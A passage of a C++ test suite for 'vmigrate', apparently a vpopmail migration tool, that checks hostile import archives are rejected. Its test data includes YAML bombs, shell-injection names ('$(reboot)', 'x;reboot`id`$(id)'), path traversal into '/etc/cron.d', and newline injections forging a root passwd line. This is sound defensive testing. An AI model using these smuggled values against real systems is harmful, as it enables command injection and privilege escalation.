  std::string& text = ManifestText(m);
  size_t at = text.find("  - name: \"example.com\"");
  ASSERT_NE(at, std::string::npos);
  std::string domain = text.substr(at);
  text += Replace(domain, "\"example.com\"", "\"example.net\"", false);
  ExpectRejected(Forge(m), {"exactly one domain", "found 2"});
}

TEST_F(HostileArchiveTest, DuplicateFormatVersionKeyIsRejected) {
  ExpectRejected(ForgeManifestEdit("format_version: 1\n", "format_version: 1\nformat_version: 2\n"),
                 {"format_version", "duplicate"});
}

// A second `quota:` key for alice: a YAML reader that keeps the first or the
// last would import different data than another reader would.
TEST_F(HostileArchiveTest, DuplicateKeyInsideAUserIsRejected) {
  ExpectRejected(ForgeManifestEdit("        quota: \"5000000S,1000C\"\n",
                                   "        quota: \"5000000S,1000C\"\n        quota: \"NOQUOTA\"\n"),
                 {"quota", "duplicate"});
}

TEST_F(HostileArchiveTest, BillionLaughsInAnUnknownKeyIsRejectedQuickly) {
  ExpectRejected(ForgeManifestEdit("source:\n", BillionLaughs("bomb", "") + "source:\n"),
                 {"alias"}, 6, "", 5.0);
}

TEST_F(HostileArchiveTest, BillionLaughsInPlaceOfTheAliasesIsRejectedQuickly) {
  Members m = Base();
  std::string& text = ManifestText(m);
  text = Replace(text, "    aliases:\n      - \"example.org\"\n", BillionLaughs("aliases", "    "));
  ExpectRejected(Forge(m), {"aliases"}, 6, "", 5.0);
}

TEST_F(HostileArchiveTest, BillionLaughsInPlaceOfAUserListIsRejectedQuickly) {
  Members m = Base();
  std::string& text = ManifestText(m);
  size_t at = text.find("    users:\n");
  ASSERT_NE(at, std::string::npos);
  text = text.substr(0, at) + BillionLaughs("users", "    ");
  ExpectRejected(Forge(m), {"manifest", "anchors"}, 6, "", 5.0);
}

TEST_F(HostileArchiveTest, DeeplyNestedYamlIsRejectedWithoutCrashing) {
  std::string deep = "bomb: " + std::string(100000, '[') + std::string(100000, ']') + "\n";
  ExpectRejected(ForgeManifestEdit("source:\n", deep + "source:\n"), {"manifest"}, 6, "", 5.0);
}

// ---------------------------------------------------- manifest: users ---

TEST_F(HostileArchiveTest, DuplicateUsersAreRejected) {
  Members m = Base();
  std::string& text = ManifestText(m);
  text = Replace(text, "- name: \"bob\"", "- name: \"alice\"");
  RenamePathPrefix(m, U("bob"), U("alice-was-bob"));  // keep the stream itself valid
  ExpectRejected(Forge(m), {"user 'alice' is listed twice"});
}

// Same, with a name holding a newline: the message must stay one line.
TEST_F(HostileArchiveTest, DuplicateUsersWithANewlineInTheNameGiveOneErrorLine) {
  Members m = Base();
  std::string& text = ManifestText(m);
  text = Replace(text, "- name: \"judy\"", "- name: \"ju\\ndy\"");
  text = Replace(text, "- name: \"ken\"", "- name: \"ju\\ndy\"");
  ExpectRejected(Forge(m), {"listed twice"});
}

TEST_F(HostileArchiveTest, UserNameWithASlashIsRejected) {
  ExpectRejected(ForgeUserName("judy", "ju/dy"), {"ju/dy", "refuses"});
}

TEST_F(HostileArchiveTest, UserNameWithAColonIsRejected) {
  ExpectRejected(ForgeUserName("judy", "judy:0:0"), {"judy:0:0", "refuses"});
}

TEST_F(HostileArchiveTest, UserNameWithANewlineIsRejected) {
  ExpectRejected(ForgeUserName("judy", "judy\nroot"), {"judy\\nroot", "control"});
}

TEST_F(HostileArchiveTest, UserNameWithANulIsRejected) {
  ExpectRejected(ForgeUserName("judy", std::string("judy\0root", 9)), {"judy\\x00root", "control"});
}

// Names vpopmail could not have created but that stay inside their
// directory, one vpasswd field and one placeholder are carried with a
// warning (issue 12: such an account was already unreachable on the old
// host; it must not block the others). vmigrate runs no shell.
TEST_F(HostileArchiveTest, UserNameWithASpaceIsImportedWithAWarning) {
  ExpectImportedWithWarning(ForgeUserName("judy", "judy jones"), "judy jones", "space");
}

TEST_F(HostileArchiveTest, UserNameWithShellMetacharactersIsImportedWithAWarning) {
  ExpectImportedWithWarning(ForgeUserName("judy", "j;reboot"), "j;reboot", "refuses");
}

TEST_F(HostileArchiveTest, UserNameWithCommandSubstitutionIsImportedWithAWarning) {
  ExpectImportedWithWarning(ForgeUserName("judy", "$(reboot)"), "$(reboot)", "refuses");
}

TEST_F(HostileArchiveTest, UpperCaseUserNameIsImportedWithAWarning) {
  ExpectImportedWithWarning(ForgeUserName("judy", "Judy"), "Judy", "upper-case");
}

TEST_F(HostileArchiveTest, UserNameOverVpopmail54sLengthLimitIsImportedWithAWarning) {
  std::string name(33, 'j');
  ExpectImportedWithWarning(ForgeUserName("judy", name), name, "longer than the 32 bytes");
}

TEST_F(HostileArchiveTest, UserNameLongerThanADirectoryNameIsRejected) {
  std::string name(256, 'j');
  ExpectRejected(ForgeUserName("judy", name), {"longer than 255 bytes"});
}

TEST_F(HostileArchiveTest, UserNameWithABackslashIsRejected) {
  ExpectRejected(ForgeManifestEdit("- name: \"judy\"", "- name: \"ju\\\\dy\""), {"user 'ju", "refuses"});
}

TEST_F(HostileArchiveTest, UserNameDotDotIsRejected) {
  ExpectRejected(ForgeManifestEdit("- name: \"judy\"", "- name: \"..\""), {"'..'", "not a valid user name"});
}

TEST_F(HostileArchiveTest, EmptyUserNameIsRejected) {
  ExpectRejected(ForgeManifestEdit("- name: \"judy\"", "- name: \"\""), {"user name is empty"});
}

TEST_F(HostileArchiveTest, QuotaWithAnUnknownUnitIsRejected) {
  ExpectRejected(ForgeJudyField("quota", "1048576S", "1048576X"), {"judy", "quota '1048576X'"});
}

TEST_F(HostileArchiveTest, QuotaGivingTheSizeTwiceIsRejected) {
  ExpectRejected(ForgeJudyField("quota", "1048576S", "1S,2S"), {"judy", "twice"});
}

TEST_F(HostileArchiveTest, QuotaOverVpopmailsLengthLimitIsRejected) {
  ExpectRejected(ForgeJudyField("quota", "1048576S", "100000000000000000000S"),
                 {"judy", "longer than 20"});
}

TEST_F(HostileArchiveTest, QuotaWithAColonIsRejected) {
  ExpectRejected(ForgeJudyField("quota", "1048576S", "1S:/bin/sh"), {"judy", "quota contains ':'"});
}

TEST_F(HostileArchiveTest, NegativeQuotaIsRejected) {
  ExpectRejected(ForgeJudyField("quota", "1048576S", "-5S"), {"judy", "quota '-5S'"});
}

TEST_F(HostileArchiveTest, NonNumericFlagsAreRejected) {
  ExpectRejected(ForgeJudyField("gid", "16", "bounce"), {"judy", "flags (gid)"});
}

TEST_F(HostileArchiveTest, NegativeFlagsAreRejected) {
  ExpectRejected(ForgeJudyField("gid", "16", "-1"), {"judy", "flags (gid)"});
}

TEST_F(HostileArchiveTest, FlagsOf2To32AreRejected) {
  ExpectRejected(ForgeJudyField("gid", "16", "4294967296"), {"judy", "flags (gid)"});
}

TEST_F(HostileArchiveTest, HexadecimalFlagsAreRejected) {
  ExpectRejected(ForgeJudyField("gid", "16", "0x10"), {"judy", "flags (gid)"});
}

TEST_F(HostileArchiveTest, EmptyFlagsAreRejected) {
  ExpectRejected(ForgeJudyField("gid", "16", ""), {"judy", "flags (gid)"});
}

TEST_F(HostileArchiveTest, NonDecimalUidFieldIsRejected) {
  Members m = Base();
  std::string& text = ManifestText(m);
  size_t at = text.find("- name: \"judy\"");
  ASSERT_NE(at, std::string::npos);
  size_t uid = text.find("uid: \"1\"", at);
  text.replace(uid, 8, "uid: \"1; reboot\"");
  ExpectRejected(Forge(m), {"judy", "uid field must be decimal"});
}

TEST_F(HostileArchiveTest, GecosWithAColonIsRejected) {
  ExpectRejected(ForgeJudyField("gecos", "Judy Jones", "Judy:0:0:/root"), {"judy", "gecos contains ':'"});
}

TEST_F(HostileArchiveTest, GecosWithANewlineIsRejected) {
  ExpectRejected(ForgeJudyField("gecos", "Judy Jones", "Judy\nroot:x:0:0::/root:/bin/sh"),
                 {"judy", "gecos contains ':' or a line break"});
}

TEST_F(HostileArchiveTest, PasswordHashWithAColonIsRejected) {
  ExpectRejected(ForgeJudyField("passwd", "jjNprHSouw.GI", "jjNprHSouw.GI:1:0"),
                 {"judy", "password hash contains"});
}

// The line as it would be written on the target (its home path) is over
// what vpopmail 5.4 reads: a data limit (exit 8), not a bad archive.
TEST_F(HostileArchiveTest, VpasswdLineOverVpopmailsLimitIsRejected) {
  ExpectRejected(ForgeJudyField("gecos", "Judy Jones", std::string(250, 'J')),
                 {"judy", "vpasswd line is"}, 8);
}

TEST_F(HostileArchiveTest, RewrittenFileWithDotDotIsRejected) {
  ExpectRejected(ForgeManifestEdit("\"files/.qmail-default\"", "\"files/../../../../etc/cron.d/x\""),
                 {"files/../../../../etc/cron.d/x", "'..'"});
}

// -------------------------------------------------- manifest: domains ---

TEST_F(HostileArchiveTest, DomainNameWithASlashIsRejected) {
  ExpectRejected(ForgeDomainName("example.com/../../etc"), {"example.com/../../etc", "only lower-case"});
}

TEST_F(HostileArchiveTest, DomainNameWithAColonIsRejected) {
  ExpectRejected(ForgeDomainName("example.com:89:89"), {"example.com:89:89", "only lower-case"});
}

TEST_F(HostileArchiveTest, DomainNameWithANewlineIsRejected) {
  ExpectRejected(ForgeDomainName("example.com\n+evil.test-"), {"example.com\\n+evil.test-", "only lower-case"});
}

TEST_F(HostileArchiveTest, DomainNameWithANulIsRejected) {
  ExpectRejected(ForgeDomainName(std::string("example.com\0.evil", 17)), {"example.com\\x00.evil", "only lower-case"});
}

TEST_F(HostileArchiveTest, DomainNameWithASpaceIsRejected) {
  ExpectRejected(ForgeDomainName("example .com"), {"example .com", "only lower-case"});
}

TEST_F(HostileArchiveTest, DomainNameWithShellMetacharactersIsRejected) {
  ExpectRejected(ForgeDomainName("x;reboot`id`$(id).com"), {"x;reboot`id`$(id).com", "only lower-case"});
}

TEST_F(HostileArchiveTest, UpperCaseDomainNameIsRejected) {
  ExpectRejected(ForgeDomainName("Example.COM"), {"Example.COM", "only lower-case"});
}

TEST_F(HostileArchiveTest, DomainNameOverVpopmailsLengthLimitIsRejected) {
  std::string name = std::string(93, 'a') + ".com";  // 97
  ExpectRejected(ForgeDomainName(name), {name, "3 to 96"});
}

TEST_F(HostileArchiveTest, DomainNameDotDotIsRejected) {
  ExpectRejected(ForgeManifestEdit("- name: \"example.com\"", "- name: \"..\""), {"'..'", "domain"});
}

TEST_F(HostileArchiveTest, AliasDomainWithASlashIsRejected) {
  ExpectRejected(ForgeManifestEdit("\"example.org\"", "\"../../../etc\""), {"alias", "../../../etc"});
}

TEST_F(HostileArchiveTest, AliasDomainWithANewlineIsRejected) {
  ExpectRejected(ForgeManifestEdit("\"example.org\"", "\"example.org\\n+evil.test-:evil.test:0:0:/:-::\""),
                 {"alias", "example.org\\n+evil.test"});
}

TEST_F(HostileArchiveTest, AliasDomainEqualToTheDomainIsRejected) {
  ExpectRejected(ForgeManifestEdit("      - \"example.org\"\n", "      - \"example.com\"\n"),
                 {"example.com", "listed twice"});
}

// A legal archive that claims, as an alias, a domain the target already
// serves: the honest answer is a conflict (exit 5), not a bad archive — the
// archive is well-formed, the target is not free for it.
TEST_F(HostileArchiveTest, AliasHijackingADomainOfTheTargetIsAConflict) {
  std::string qmail = cli::TargetQmailDisk(dst_.path());
  WriteFile(qmail + "/users/assign",
            "+victim.test-:victim.test:89:89:/srv/vpopmail/domains/victim.test:-::\n.\n");
  WriteFile(qmail + "/control/virtualdomains", "victim.test:victim.test\n");
  ExpectRejected(ForgeManifestEdit("\"example.org\"", "\"victim.test\""), {"victim.test"}, 5);
}

// -------------------------------------------- placeholders and output ---

TEST_F(HostileArchiveTest, UnknownPlaceholderInASymlinkTargetIsRejected) {
  Members m = Base();
  Member link = Symlink(F("to-root"), "@@VMIGRATE:USER_DIR:root@@/x");
  link.rewritten = true;
  Add(m, link);
  ExpectRejected(Forge(m), {"to-root", "root"});
}

TEST_F(HostileArchiveTest, UnterminatedPlaceholderInARewrittenFileIsRejected) {
  Members m = Base();
  Find(m, F(".qmail-archive"))->data = "@@VMIGRATE:DOMAIN_DIR/bob/Maildir/\n";
  ExpectRejected(Forge(m), {".qmail-archive"});
}

TEST_F(HostileArchiveTest, JsonModePrintsOnlyAJsonErrorOnStdout) {
  Members m = Base();
  Add(m, File(F("../../escape"), "x\n"));
  auto o = ExpectRejected(Forge(m), {"'..'"}, 6, "", 10.0, {"--json"});
  const std::string& out = o.result.out;
  EXPECT_EQ(std::count(out.begin(), out.end(), '\n'), 1) << out;
  EXPECT_EQ(out.rfind("{", 0), 0u) << out;
  EXPECT_NE(out.find("\"type\":\"error\""), std::string::npos) << out;
  EXPECT_NE(out.find("\"exit\":6"), std::string::npos) << out;
}

// The untouched export imports: the corpus' faults are the only faults.
TEST_F(HostileArchiveTest, ControlTheUnforgedRoundTripImports) {
  CommandResult r = Import(dst_.path(), Forge(Base()));
  EXPECT_EQ(r.exit_code, 0) << r.err;
  CommandResult z = Import(dst_.path(), ForgeAsIs(WithChecksums(Base()), Forged::kZstd));
  EXPECT_EQ(z.exit_code, 5) << "second import of the same domain must conflict: " << z.err;
}

}  // namespace
}  // namespace vmigrate::testing::hostile
